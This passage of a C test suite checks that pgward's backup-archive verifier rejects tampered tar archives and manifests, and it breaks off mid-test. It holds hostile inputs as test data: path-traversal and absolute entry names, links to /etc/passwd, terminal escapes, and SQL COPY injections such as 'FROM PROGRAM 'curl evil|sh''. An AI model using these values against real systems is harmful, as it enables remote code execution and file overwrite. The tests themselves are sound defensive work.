static void test_archive__disk_full_is_eio_and_leaves_nothing(void **state)
{
	struct fx *fx = *state;
	char mnt[4096];

	in_dir(mnt, fx, "small");
	assert_int_equal(mkdir(mnt, 0700), 0);
	if (mount("tmpfs", mnt, "tmpfs", 0, "size=1m") != 0)
		skip(); /* needs root (CAP_SYS_ADMIN) */
	fx->mnt = strdup(mnt);
	assert_true(snprintf(fx->path, sizeof(fx->path), "%s/a.tar", mnt) <
	            (int)sizeof(fx->path));
	fill_until_failure(fx, 0, "No space left on device");
	assert_true(snprintf(fx->path, sizeof(fx->path), "%s/a.tar.zst", mnt) <
	            (int)sizeof(fx->path));
	fill_until_failure(fx, 3, "No space left on device");
}

static void test_archive__file_size_limit_is_eio(void **state)
{
	struct fx *fx = *state;
	struct rlimit old, small;
	void (*old_handler)(int) = signal(SIGXFSZ, SIG_IGN);

	assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
	small = old;
	small.rlim_cur = 700 * 1024;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
	fill_until_failure(fx, 0, "File too large");
	fill_until_failure(fx, 1, "File too large");
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &old), 0);
	signal(SIGXFSZ, old_handler);
}

/* ---- archives built by hand: plain ustar, byte by byte ---- */

struct tarb {
	unsigned char *p;
	size_t len, cap;
};

static void tb_put(struct tarb *t, const void *data, size_t n)
{
	if (t->len + n > t->cap) {
		t->cap = (t->len + n) * 2 + 4096;
		t->p = realloc(t->p, t->cap);
		assert_non_null(t->p);
	}
	memcpy(t->p + t->len, data, n);
	t->len += n;
}

static void octal(unsigned char *field, size_t width, unsigned long long v)
{
	char tmp[32];

	snprintf(tmp, sizeof(tmp), "%0*llo", (int)(width - 1), v);
	memcpy(field, tmp, width - 1);
	field[width - 1] = '\0';
}

/* A ustar header: name (at most 100 bytes), type '0' file, '1' hard link,
 * '2' symlink, '3' char device, '5' directory; `size` as declared. */
static void tb_header(struct tarb *t, const char *name, char type,
                      const char *link, unsigned long long size)
{
	unsigned char h[512];
	unsigned sum = 0;
	size_t i;

	memset(h, 0, sizeof(h));
	assert_true(strlen(name) <= 100);
	memcpy(h, name, strlen(name));
	octal(h + 100, 8, type == '5' ? 0700 : 0600);
	octal(h + 108, 8, 0);
	octal(h + 116, 8, 0);
	octal(h + 124, 12, size);
	octal(h + 136, 12, 1700000000);
	memset(h + 148, ' ', 8);
	h[156] = (unsigned char)type;
	if (link)
		memcpy(h + 157, link, strlen(link));
	memcpy(h + 257, "ustar", 6);
	memcpy(h + 263, "00", 2);
	for (i = 0; i < 512; i++)
		sum += h[i];
	snprintf((char *)h + 148, 8, "%06o", sum);
	h[155] = ' ';
	tb_put(t, h, sizeof(h));
}

static void tb_data(struct tarb *t, const void *data, size_t n)
{
	static const unsigned char zero[512];

	tb_put(t, data, n);
	if (n % 512)
		tb_put(t, zero, 512 - n % 512);
}

static void tb_file(struct tarb *t, const char *name, const void *data,
                    size_t n)
{
	tb_header(t, name, '0', NULL, n);
	tb_data(t, data, n);
}

static void tb_save(struct tarb *t, const char *path)
{
	static const unsigned char zero[1024];

	tb_put(t, zero, sizeof(zero));
	spit(path, t->p, t->len);
	free(t->p);
	memset(t, 0, sizeof(*t));
}

/* A manifest as the writer makes it, entries added one by one. */
static json_t *mf_new(void)
{
	json_t *m = json_pack(
	        "{s:i, s:s, s:i, s:s, s:s, s:s, s:s, s:[], s:s, s:n, s:n, s:s, s:{}, s:[], s:[s], s:[], s:[]}",
	        "format", 1, "created_at", "2026-11-25T10:00:00Z",
	        "server_version_num", 150004, "database", "app", "encoding",
	        "UTF8", "collation", "C", "ctype", "C", "extensions",
	        "schema_version", "007", "git_commit", "git_tag", "wal_lsn",
	        "0/0", "settings", "omitted", "schemas", "public", "tables",
	        "entries");

	assert_non_null(m);
	return m;
}

static json_t *entry_of(json_t *m, size_t i)
{
	return json_array_get(json_object_get(m, "entries"), i);
}

static json_t *table_of(json_t *m, size_t i)
{
	return json_array_get(json_object_get(m, "tables"), i);
}

/* An entry; a data part also counts in its table (made when new). */
static void mf_add(json_t *m, const char *name, const void *data, size_t n,
                   long long rows)
{
	json_t *e, *tables = json_object_get(m, "tables"), *t = NULL;
	unsigned seq;
	char sha[65];
	size_t i;

	pgw_sha256_hex(sha, data, n);
	e = json_pack("{s:s, s:I, s:s}", "path", name, "bytes", (json_int_t)n,
	              "sha256", sha);
	assert_non_null(e);
	if (pgw_archive_data_part(name, &seq, NULL, NULL, NULL)) {
		json_object_set_new(e, "rows", json_integer(rows));
		json_object_set_new(e, "copy_format", json_string("text"));
		json_array_foreach(tables, i, t)
		{
			if (json_integer_value(json_object_get(t, "seq")) ==
			    seq)
				break;
		}
		if (i == json_array_size(tables)) {
			t = json_pack("{s:i, s:s, s:s, s:s, s:i}", "seq",
			              (int)seq, "schema", "public", "name", "t",
			              "columns", "id", "rows", 0);
			assert_non_null(t);
			json_array_append_new(tables, t);
		}
		json_object_set_new(
		        t, "rows",
		        json_integer(
		                json_integer_value(json_object_get(t, "rows")) +
		                rows));
	}
	assert_int_equal(
	        json_array_append_new(json_object_get(m, "entries"), e), 0);
}

/* An entry in both the tar and the manifest. */
static void both(struct tarb *t, json_t *m, const char *name, const char *data)
{
	tb_file(t, name, data, strlen(data));
	mf_add(m, name, data, strlen(data),
	       strncmp(name, "data/", 5) == 0 ? 1 : -1);
}

static void hand_head(struct tarb *t, json_t *m)
{
	both(t, m, "schema/pre-data.sql", "CREATE TABLE t (id int);\n");
}

static void hand_tail(struct tarb *t, json_t *m)
{
	both(t, m, "schema/post-data.sql", "");
	both(t, m, "restore.sql", "\\i schema/pre-data.sql\n");
}

/* Give m its own checksum, as the writer does: SHA-256 of the compact
 * text with sorted keys, without the checksum. */
static void mf_seal(json_t *m)
{
	char *canon, sha[65];

	json_object_del(m, "manifest_sha256");
	canon = json_dumps(m, JSON_COMPACT | JSON_SORT_KEYS);
	assert_non_null(canon);
	pgw_sha256_hex(sha, canon, strlen(canon));
	free(canon);
	json_object_set_new(m, "manifest_sha256", json_string(sha));
}

/* manifest.json (m consumed, sealed) and the end of the archive. */
static void hand_manifest(struct tarb *t, json_t *m)
{
	char *text;

	mf_seal(m);
	text = json_dumps(m, JSON_INDENT(1));
	assert_non_null(text);
	tb_file(t, "manifest.json", text, strlen(text));
	free(text);
	json_decref(m);
}

/* The standard hand-made archive, with `mid` called after the first data
 * part (NULL: nothing) and `edit` on the manifest before it is sealed. */
static void hand_edited(const char *path,
                        void (*mid)(struct tarb *t, json_t *m),
                        void (*edit)(json_t *m))
{
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	both(&t, m, "data/0001.public.t.copy.001", "1\n");
	if (mid)
		mid(&t, m);
	hand_tail(&t, m);
	if (edit)
		edit(m);
	hand_manifest(&t, m);
	tb_save(&t, path);
}

static void hand_archive(const char *path,
                         void (*mid)(struct tarb *t, json_t *m))
{
	hand_edited(path, mid, NULL);
}

static void test_archive__hand_made_archive_verifies(void **state)
{
	struct fx *fx = *state;

	hand_archive(fx->path, NULL);
	verify_ok(fx, fx->path);
	assert_int_equal(fx->m->n_entries, 4);
	assert_string_equal(fx->m->schema_version, "007");
	assert_int_equal(fx->m->n_tables, 1);
	assert_string_equal(fx->m->tables[0].columns, "id");
	assert_string_equal(fx->m->schemas[0], "public");
}

static void test_archive__truncated(void **state)
{
	struct fx *fx = *state;
	unsigned char *bytes;
	char sha[65], cut[4096];
	size_t len;

	write_sample(fx, fx->path, 3, sha);
	bytes = slurp(fx->path, &len);
	spit(in_dir(cut, fx, "half.tar.zst"), bytes, len / 2);
	verify_fails(fx, cut, PGW_EINVAL, "half.tar.zst", NULL);
	spit(cut, bytes, len - 1);
	verify_fails(fx, cut, PGW_EINVAL, NULL);
	free(bytes);

	write_sample(fx, in_dir(cut, fx, "plain.tar"), 0, sha);
	bytes = slurp(cut, &len);
	spit(cut, bytes, len / 2);
	verify_fails(fx, cut, PGW_EINVAL, NULL);
	free(bytes);
}

/* Cut a plain archive at a block boundary just before manifest.json. */
static void test_archive__cut_before_the_manifest(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	hand_tail(&t, m);
	json_decref(m);
	spit(fx->path, t.p, t.len); /* no end-of-archive blocks either */
	free(t.p);
	verify_fails(fx, fx->path, PGW_EINVAL, "no manifest.json", NULL);
}

static void flip(const char *path, size_t at)
{
	unsigned char *bytes;
	size_t len;

	bytes = slurp(path, &len);
	assert_true(at < len);
	bytes[at] ^= 0x20;
	spit(path, bytes, len);
	free(bytes);
}

static void poke(const char *path, size_t at, unsigned char c)
{
	unsigned char *bytes;
	size_t len;

	bytes = slurp(path, &len);
	assert_true(at < len);
	bytes[at] = c;
	spit(path, bytes, len);
	free(bytes);
}

/* Where `needle` starts in the file. */
static size_t offset_of(const char *path, const char *needle)
{
	unsigned char *bytes;
	size_t len, i, n = strlen(needle);

	bytes = slurp(path, &len);
	for (i = 0; i + n <= len; i++)
		if (!memcmp(bytes + i, needle, n))
			break;
	assert_true(i + n <= len);
	free(bytes);
	return i;
}

static void test_archive__one_byte_flipped_plain(void **state)
{
	struct fx *fx = *state;
	char sha[65];

	write_sample(fx, fx->path, 0, sha);
	flip(fx->path, offset_of(fx->path, "2\ttwo") + 2);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "SHA-256", NULL);
}

static void test_archive__one_byte_flipped_in_a_header(void **state)
{
	struct fx *fx = *state;
	char sha[65];

	write_sample(fx, fx->path, 0, sha);
	/* the size field of the first header */
	flip(fx->path, 124 + 5);
	verify_fails(fx, fx->path, PGW_EINVAL, NULL);
}

/* Same manifest, field by field (the archive's own size and checksum
 * aside). */
static void assert_same_manifest(const struct pgw_manifest *a,
                                 const struct pgw_manifest *b)
{
	size_t i;

	assert_int_equal(a->format, b->format);
	assert_int_equal(a->server_version_num, b->server_version_num);
	assert_string_equal(a->created_at, b->created_at);
	assert_string_equal(a->database, b->database);
	assert_string_equal(a->schema_version, b->schema_version);
	assert_string_equal(a->git_commit, b->git_commit);
	assert_string_equal(a->wal_lsn, b->wal_lsn);
	for (i = 0; a->settings[i] || b->settings[i]; i++)
		assert_string_equal(a->settings[i], b->settings[i]);
	for (i = 0; a->extensions[i] || b->extensions[i]; i++)
		assert_string_equal(a->extensions[i], b->extensions[i]);
	for (i = 0; a->schemas[i] || b->schemas[i]; i++)
		assert_string_equal(a->schemas[i], b->schemas[i]);
	assert_int_equal(a->n_tables, b->n_tables);
	for (i = 0; i < a->n_tables; i++) {
		assert_int_equal(a->tables[i].seq, b->tables[i].seq);
		assert_string_equal(a->tables[i].schema, b->tables[i].schema);
		assert_string_equal(a->tables[i].name, b->tables[i].name);
		assert_int_equal(a->tables[i].rows, b->tables[i].rows);
	}
	assert_int_equal(a->n_entries, b->n_entries);
	for (i = 0; i < a->n_entries; i++) {
		assert_string_equal(a->entries[i].name, b->entries[i].name);
		assert_int_equal(a->entries[i].bytes, b->entries[i].bytes);
		assert_int_equal(a->entries[i].rows, b->entries[i].rows);
		assert_string_equal(a->entries[i].sha256, b->entries[i].sha256);
	}
}

/* Flip one byte at a time, every `step` bytes: verify refuses the archive,
 * or what it reports is exactly what was written (the byte carried
 * nothing, like tar padding) and only the whole file's checksum shows
 * the change.  Returns how many flips were refused. */
static size_t flip_everywhere(struct fx *fx, size_t step)
{
	struct pgw_manifest *m = NULL;
	unsigned char *bytes;
	size_t len, at, refused = 0;
	char copy[4096];
	int rc;

	verify_ok(fx, fx->path);
	bytes = slurp(fx->path, &len);
	in_dir(copy, fx, "flipped");
	for (at = 0; at < len; at += step) {
		bytes[at] ^= 0x01;
		spit(copy, bytes, len);
		bytes[at] ^= 0x01;
		pgw_err_clear(&fx->err);
		rc = pgw_archive_verify(&m, copy, &fx->err);
		if (rc) {
			assert_int_equal(rc, PGW_EINVAL);
			assert_non_null(strstr(fx->err.msg, "flipped"));
			refused++;
			continue;
		}
		assert_same_manifest(m, fx->m);
		assert_string_not_equal(m->archive_sha256,
		                        fx->m->archive_sha256);
		pgw_manifest_free(m);
		m = NULL;
	}
	free(bytes);
	unlink(copy);
	return refused;
}

static void test_archive__one_byte_flipped_compressed(void **state)
{
	struct fx *fx = *state;
	char sha[65];

	write_sample(fx, fx->path, 3, sha);
	/* most bytes of a compressed stream matter */
	assert_true(flip_everywhere(fx, 1) > 0);
}

static void test_archive__one_byte_flipped_anywhere_plain(void **state)
{
	struct fx *fx = *state;
	char sha[65];

	write_sample(fx, fx->path, 0, sha);
	assert_true(flip_everywhere(fx, 7) > 0);
}

static void test_archive__manifest_changed_without_its_checksum(void **state)
{
	struct fx *fx = *state;
	char sha[65];

	write_sample(fx, fx->path, 0, sha);
	/* "042" -> "043": still valid JSON, and it matters */
	poke(fx->path, offset_of(fx->path, "\"042\"") + 3, '3');
	verify_fails(fx, fx->path, PGW_EINVAL, "manifest.json", "own checksum",
	             NULL);
}

static void extra_part(struct tarb *t, json_t *m)
{
	(void)m;
	tb_file(t, "data/0001.public.t.copy.002", "2\n", 2);
}

static void test_archive__extra_entry(void **state)
{
	struct fx *fx = *state;

	hand_archive(fx->path, extra_part);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.002",
	             "not listed in manifest.json", NULL);
}

static void missing_part(struct tarb *t, json_t *m)
{
	(void)t;
	mf_add(m, "data/0001.public.t.copy.002", "2\n", 2, 1);
}

static void test_archive__missing_entry(void **state)
{
	struct fx *fx = *state;

	hand_archive(fx->path, missing_part);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.002",
	             "missing from the archive", NULL);
}

static void format_2(json_t *m)
{
	json_object_set_new(m, "format", json_integer(2));
	/* and fields this pgward does not know */
	json_object_set_new(m, "entries", json_string("elsewhere"));
}

static void test_archive__unknown_format_version(void **state)
{
	struct fx *fx = *state;

	hand_edited(fx->path, NULL, format_2);
	verify_fails(fx, fx->path, PGW_EINVAL, "unknown archive format 2",
	             "reads format 1", NULL);
	assert_non_null(strstr(fx->err.hint, "newer pgward"));
}

/* A hostile entry among the data parts. */
static void hostile(struct fx *fx, const char *name, char type,
                    const char *link, const char *want1, const char *want2)
{
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	tb_header(&t, name, type, link, type == '0' ? 3 : 0);
	if (type == '0')
		tb_data(&t, "1\n\n", 3);
	hand_tail(&t, m);
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, want1, want2, NULL);
}

static void test_archive__dot_dot_and_absolute_names(void **state)
{
	struct fx *fx = *state;

	hostile(fx, "../../etc/cron.d/x", '0', NULL, "'../../etc/cron.d/x'",
	        "'..'");
	hostile(fx, "data/0001.public.t.copy.001/../../../x", '0', NULL, "'..'",
	        "data/0001");
	hostile(fx, "/etc/passwd", '0', NULL, "'/etc/passwd'", "absolute");
	hostile(fx, "data//0001.public.t.copy.001", '0', NULL, "data//0001",
	        "path component");
	hostile(fx, "./restore.sql", '0', NULL, "./restore.sql",
	        "path component");
	hostile(fx, "data\\0001.public.t.copy.001", '0', NULL, "backslash",
	        "\\x5c");
}

static void test_archive__links_directories_and_devices(void **state)
{
	struct fx *fx = *state;

	hostile(fx, "data/0001.public.t.copy.001", '2', "/etc/passwd",
	        "data/0001.public.t.copy.001", "symbolic link");
	hostile(fx, "data/0001.public.t.copy.001", '1', "schema/pre-data.sql",
	        "data/0001.public.t.copy.001", "hard link");
	hostile(fx, "data/", '5', NULL, "'data/'", "directory");
	hostile(fx, "data/0001.public.t.copy.001", '3', NULL,
	        "data/0001.public.t.copy.001", "character device");
	hostile(fx, "data/0001.public.t.copy.001", '6', NULL,
	        "data/0001.public.t.copy.001", "FIFO");
}

static void test_archive__names_that_are_not_text(void **state)
{
	struct fx *fx = *state;

	/* an escape sequence is shown escaped, not sent to the terminal */
	hostile(fx, "data/0001.pub\x1b[31m.t.copy.001", '0', NULL,
	        "control character", "pub\\x1b[31m");
	hostile(fx, "data/0001.p\xff.t.copy.001", '0', NULL, "not valid UTF-8",
	        "p\\xff");
	hostile(fx, "data/0001.p\xc0\xae.t.copy.001", '0', NULL,
	        "not valid UTF-8", NULL);
	hostile(fx, "notes.txt", '0', NULL, "'notes.txt'", "layout");
	hostile(fx, "data/0001.public.t.copy", '0', NULL, "layout", NULL);
}

static void dup_part(struct tarb *t, json_t *m)
{
	(void)m;
	tb_file(t, "data/0001.public.t.copy.001", "1\n", 2);
}

static void test_archive__duplicate_entry(void **state)
{
	struct fx *fx = *state;

	hand_archive(fx->path, dup_part);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "appears twice", NULL);
}

static void test_archive__entry_after_the_manifest(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	hand_tail(&t, m);
	hand_manifest(&t, m);
	tb_file(&t, "data/0009.public.late.copy.001", "1\n", 2);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0009.public.late.copy.001",
	             "after manifest.json", NULL);

	/* a second manifest too */
	m = mf_new();
	hand_head(&t, m);
	hand_tail(&t, m);
	hand_manifest(&t, json_deep_copy(m));
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "manifest.json",
	             "after manifest.json", NULL);
}

static void test_archive__entries_out_of_order(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };
	json_t *m = mf_new();

	both(&t, m, "restore.sql", "x");
	hand_head(&t, m);
	both(&t, m, "schema/post-data.sql", "");
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "'restore.sql' is out of order",
	             "'schema/pre-data.sql' first", NULL);

	m = mf_new();
	hand_head(&t, m);
	both(&t, m, "data/0001.public.t.copy.002", "2\n");
	both(&t, m, "data/0001.public.t.copy.001", "1\n");
	hand_tail(&t, m);
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "out of order", NULL);

	m = mf_new();
	hand_head(&t, m);
	both(&t, m, "restore.sql", "x");
	both(&t, m, "schema/post-data.sql", "");
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "'restore.sql' is out of order",
	             NULL);

	m = mf_new();
	hand_head(&t, m);
	hand_tail(&t, m);
	both(&t, m, "data/0001.public.t.copy.001", "1\n");
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "out of order", NULL);
}

static void lie_bytes(json_t *m)
{
	json_object_set_new(entry_of(m, 1), "bytes", json_integer(3));
}

static void lie_sha(json_t *m)
{
	json_object_set_new(
	        entry_of(m, 0), "sha256",
	        json_string(
	                "0000000000000000000000000000000000000000000000000000000000000000"));
}

static void dup_listed(json_t *m)
{
	json_array_append(json_object_get(m, "entries"), entry_of(m, 1));
}

static void bad_format(json_t *m)
{
	json_object_set_new(entry_of(m, 1), "copy_format",
	                    json_string("text) TO PROGRAM 'sh"));
}

static void no_entries(json_t *m)
{
	json_object_del(m, "entries");
}

static void negative_bytes(json_t *m)
{
	json_object_set_new(entry_of(m, 0), "bytes", json_integer(-1));
}

static void bad_sha(json_t *m)
{
	json_object_set_new(entry_of(m, 0), "sha256", json_string("ABC"));
}

static void control_in_db(json_t *m)
{
	json_object_set_new(m, "database", json_string("app\x1b]0;owned\x07"));
}

static void lists_itself(json_t *m)
{
	mf_add(m, "manifest.json", "", 0, -1);
}

static void test_archive__manifest_lies(void **state)
{
	struct fx *fx = *state;

	hand_edited(fx->path, NULL, lie_bytes);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "has 2 bytes, manifest.json says 3", NULL);
	hand_edited(fx->path, NULL, lie_sha);
	verify_fails(fx, fx->path, PGW_EINVAL, "'schema/pre-data.sql'",
	             "SHA-256", NULL);
	hand_edited(fx->path, NULL, dup_listed);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "twice", NULL);
	hand_edited(fx->path, NULL, bad_format);
	verify_fails(fx, fx->path, PGW_EINVAL, "entries[1].copy_format",
	             "text, csv or binary", NULL);
	hand_edited(fx->path, NULL, no_entries);
	verify_fails(fx, fx->path, PGW_EINVAL, "'entries' is missing", NULL);
	hand_edited(fx->path, NULL, negative_bytes);
	verify_fails(fx, fx->path, PGW_EINVAL, "entries[0].bytes", NULL);
	hand_edited(fx->path, NULL, bad_sha);
	verify_fails(fx, fx->path, PGW_EINVAL, "entries[0].sha256", NULL);
	hand_edited(fx->path, NULL, control_in_db);
	verify_fails(fx, fx->path, PGW_EINVAL, "'database'",
	             "control character", NULL);
	hand_edited(fx->path, NULL, lists_itself);
	verify_fails(fx, fx->path, PGW_EINVAL, "cannot list itself", NULL);
}

static void columns_injected(json_t *m)
{
	json_object_set_new(table_of(m, 0), "columns",
	                    json_string("id) FROM PROGRAM 'curl evil|sh' --"));
}

static void columns_odd_but_fine(json_t *m)
{
	json_object_set_new(
	        table_of(m, 0), "columns",
	        json_string("id, \"we\"\"ird, (col)\", _x$1, \"\xc3\xa9\""));
	json_object_set_new(table_of(m, 0), "schema",
	                    json_string("line\nbreak"));
}

static void rows_lie(json_t *m)
{
	json_object_set_new(table_of(m, 0), "rows", json_integer(5));
}

static void no_table(json_t *m)
{
	json_array_clear(json_object_get(m, "tables"));
}

static void table_twice(json_t *m)
{
	json_t *t = json_deep_copy(table_of(m, 0));

	json_object_set_new(t, "rows", json_integer(0));
	json_array_append_new(json_object_get(m, "tables"), t);
}

static void table_zero(json_t *m)
{
	json_object_set_new(table_of(m, 0), "seq", json_integer(0));
}

static void no_schemas(json_t *m)
{
	json_object_del(m, "schemas");
}

static void no_tables(json_t *m)
{
	json_object_del(m, "tables");
}

static void test_archive__manifest_tables_lie(void **state)
{
	struct fx *fx = *state;

	hand_edited(fx->path, NULL, columns_injected);
	verify_fails(fx, fx->path, PGW_EINVAL, "columns of table 1",
	             "not a list of column names", NULL);
	hand_edited(fx->path, NULL, rows_lie);
	verify_fails(fx, fx->path, PGW_EINVAL, "table 1 has 5 rows", NULL);
	hand_edited(fx->path, NULL, no_table);
	verify_fails(fx, fx->path, PGW_EINVAL, "data/0001.public.t.copy.001",
	             "belongs to no table", NULL);
	hand_edited(fx->path, NULL, table_twice);
	verify_fails(fx, fx->path, PGW_EINVAL, "table 1 twice", NULL);
	hand_edited(fx->path, NULL, table_zero);
	verify_fails(fx, fx->path, PGW_EINVAL, "tables[0].seq", NULL);
	hand_edited(fx->path, NULL, no_schemas);
	verify_fails(fx, fx->path, PGW_EINVAL, "'schemas' is missing", NULL);
	hand_edited(fx->path, NULL, no_tables);
	verify_fails(fx, fx->path, PGW_EINVAL, "'tables' is missing", NULL);
	/* quoted names may hold anything: they stay quoted */
	hand_edited(fx->path, NULL, columns_odd_but_fine);
	verify_ok(fx, fx->path);
	assert_string_equal(fx->m->tables[0].schema, "line\nbreak");
}

static void raw_manifest(struct fx *fx, const char *text)
{
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	hand_tail(&t, m);
	json_decref(m);
	tb_file(&t, "manifest.json", text, strlen(text));
	tb_save(&t, fx->path);
}

static void test_archive__manifest_that_is_not_json(void **state)
{
	struct fx *fx = *state;

	raw_manifest(fx, "{\"format\": 1, \"entries\": [");
	verify_fails(fx, fx->path, PGW_EINVAL, "manifest.json",
	             "not valid JSON", NULL);
	raw_manifest(fx, "{\"format\": 1, \"format\": 1}");
	verify_fails(fx, fx->path, PGW_EINVAL, "not valid JSON", "duplicate",
	             NULL);
	raw_manifest(fx, "[1, 2]");
	verify_fails(fx, fx->path, PGW_EINVAL, "not a JSON object", NULL);
	raw_manifest(fx, "");
	verify_fails(fx, fx->path, PGW_EINVAL, "not valid JSON", NULL);
	raw_manifest(fx, "{\"entries\": []}");
	verify_fails(fx, fx->path, PGW_EINVAL, "'format' is missing", NULL);
	raw_manifest(fx, "{\"format\": 1, \"entries\": []}");
	verify_fails(fx, fx->path, PGW_EINVAL, "'manifest_sha256' is missing",
	             NULL);
}

static void test_archive__huge_manifest(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };
	json_t *m = mf_new();

	hand_head(&t, m);
	hand_tail(&t, m);
	json_decref(m);
	/* 3 GB declared, nothing behind it: refused before any reading */
	tb_header(&t, "manifest.json", '0', NULL, 3ull << 30);
	tb_data(&t, "{", 1);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL,
	             "manifest.json is 3221225472 bytes", "limit", NULL);
}

static void test_archive__not_an_archive(void **state)
{
	struct fx *fx = *state;
	char p[4096];
	unsigned char junk[4096];
	size_t i;

	spit(in_dir(p, fx, "empty.tar.zst"), "", 0);
	verify_fails(fx, p, PGW_EINVAL, "empty.tar.zst", "is empty", NULL);
	spit(in_dir(p, fx, "text.tar.zst"), "CREATE TABLE t (id int);\n", 25);
	verify_fails(fx, p, PGW_EINVAL, "text.tar.zst", NULL);
	for (i = 0; i < sizeof(junk); i++)
		junk[i] = (unsigned char)(i * 7 + 3);
	spit(in_dir(p, fx, "junk.tar.zst"), junk, sizeof(junk));
	verify_fails(fx, p, PGW_EINVAL, NULL);
	/* a gzip stream: only tar, zstd and nothing else */
	spit(in_dir(p, fx, "a.tar.gz"),
	     "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00",
	     20);
	verify_fails(fx, p, PGW_EINVAL, NULL);
	verify_fails(fx, fx->dir, PGW_EINVAL, "not a regular file", NULL);
	/* a FIFO with no writer: refused at once, not waited for */
	assert_int_equal(mkfifo(in_dir(p, fx, "fifo.tar.zst"), 0600), 0);
	verify_fails(fx, p, PGW_EINVAL, "not a regular file", NULL);
	verify_fails(fx, in_dir(p, fx, "nothing.tar.zst"), PGW_ENOTFOUND,
	             "does not exist", NULL);
}

/* A tar with a single entry and no manifest at all. */
static void test_archive__no_manifest(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };

	tb_file(&t, "schema/pre-data.sql", "x", 1);
	tb_save(&t, fx->path);
	verify_fails(fx, fx->path, PGW_EINVAL, "no manifest.json", NULL);
}

/* ---- the reader checks again ---- */

static void
test_archive__reader_fails_at_the_end_of_a_changed_entry(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_reader *r = NULL;
	const struct pgw_archive_entry *e;
	char sha[65], buf[4];
	size_t n, total = 0;
	int rc;

	write_sample(fx, fx->path, 0, sha);
	verify_ok(fx, fx->path);
	/* changed after verify, before restore */
	flip(fx->path, offset_of(fx->path, "2\ttwo") + 2);
	assert_int_equal(pgw_archive_open(&r, fx->path, fx->m, &fx->err), 0);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), 1);
	assert_string_equal(e->name, "data/0001.public.t.copy.001");
	for (;;) {
		rc = pgw_archive_read(r, buf, sizeof(buf), &n, &fx->err);
		if (rc)
			break;
		assert_true(n > 0);
		total += n;
	}
	assert_int_equal(rc, PGW_EINVAL);
	/* every byte came, then the end of the entry failed */
	assert_int_equal(total, sample[1].len);
	assert_non_null(strstr(fx->err.msg, "data/0001.public.t.copy.001"));
	assert_non_null(strstr(fx->err.msg, "SHA-256"));
	/* and it stays failed */
	pgw_err_clear(&fx->err);
	assert_int_equal(pgw_archive_next(r, &e, &fx->err), PGW_EINVAL);
	pgw_archive_close(r);
}

static void test_archive__reader_checks_entries_it_skips(void **state)
{
	struct fx *fx = *state;
	struct pgw_archive_reader *r = NULL;
	const struct pgw_archive_entry *e;
	char sha[65];
	int rc;

	write_sample(fx, fx->path, 0, sha);
	verify_ok(fx, fx->path);
	flip(fx->path, offset_of(fx->path, "ALTER TABLE") + 3);
	assert_int_equal(pgw_archive_open(&r, fx->path, fx->m, &fx->err), 0);
	do
		rc = pgw_archive_next(r, &e, &fx->err);
	while (rc == 1);
	assert_int_equal(rc, PGW_EINVAL);
	assert_non_null(strstr(fx->err.msg, "schema/post-data.sql"));
	assert_non_null(strstr(fx->err.msg, "SHA-256"));
	pgw_archive_close(r);
}

/* Read every entry until the reader stops; its result. */
static int read_all(struct fx *fx, const char *path)
{
	struct pgw_archive_reader *r = NULL;
	const struct pgw_archive_entry *e;
	int rc;

	pgw_err_clear(&fx->err);
	assert_int_equal(pgw_archive_open(&r, path, fx->m, &fx->err), 0);
	do
		rc = pgw_archive_next(r, &e, &fx->err);
	while (rc == 1);
	pgw_archive_close(r);
	return rc;
}

static void no_data(struct tarb *t, json_t *m)
{
	(void)t;
	(void)m;
}

static void test_archive__reader_against_another_archive(void **state)
{
	struct fx *fx = *state;
	struct tarb t = { 0 };
	json_t *m;
	char good[4096];

	/* the verified manifest of one archive, the entries of another */
	hand_archive(in_dir(good, fx, "good.tar"), NULL);
	verify_ok(fx, good);
	assert_int_equal(read_all(fx, good), 0);

	hand_archive(fx->path, extra_part);
	assert_int_equal(read_all(fx, fx->path), PGW_EINVAL);
	assert_non_null(strstr(fx->err.msg, "data/0001.public.t.copy.002"));
	assert_non_null(strstr(fx->err.msg, "not listed in the manifest"));

	m = mf_new();
	hand_head(&t, m);
	no_data(&t, m);
	hand_tail(&t, m);
	hand_manifest(&t, m);
	tb_save(&t, fx->path);
	assert_int_equal(read_all(fx, fx->path), PGW_EINVAL);
